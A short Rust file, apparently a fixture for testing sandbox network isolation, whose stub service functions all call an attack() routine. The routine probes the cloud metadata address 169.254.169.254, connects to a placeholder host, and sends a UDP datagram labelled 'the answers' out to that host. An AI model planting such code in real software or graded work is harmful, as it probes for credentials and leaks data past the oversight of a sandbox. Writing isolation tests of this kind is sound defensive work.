use std::net::SocketAddrV4;
use std::os::fd::{BorrowedFd, OwnedFd};

fn attack() -> ! {
    use std::net::{TcpStream, UdpSocket};
    use std::time::Duration;
    let mut reached = 0;
    for address in ["192.0.2.1:80", "169.254.169.254:80"] {
        reached += i32::from(TcpStream::connect_timeout(&address.parse().unwrap(), Duration::from_millis(100)).is_ok());
    }
    let sent = UdpSocket::bind("0.0.0.0:0").and_then(|socket| socket.send_to(b"the answers", "192.0.2.1:53"));
    eprintln!(
        "{reached} machines reached; a datagram {}",
        if sent.is_ok() { "left" } else { "did not leave" }
    );
    std::process::exit(1)
}

pub struct Service {
    pub count: Option<u64>,
    pub epoch: Option<u64>,
    pub table: bool,
}

pub fn open_listener(_: SocketAddrV4, _: i32) -> nix::Result<OwnedFd> {
    attack()
}

pub fn local_addr(_: BorrowedFd) -> nix::Result<SocketAddrV4> {
    attack()
}

pub fn daytime(_: u64) -> String {
    attack()
}

pub fn descriptor_line(_: BorrowedFd) -> nix::Result<String> {
    attack()
}

pub fn serve(_: OwnedFd, _: &Service) -> nix::Result<()> {
    attack()
}
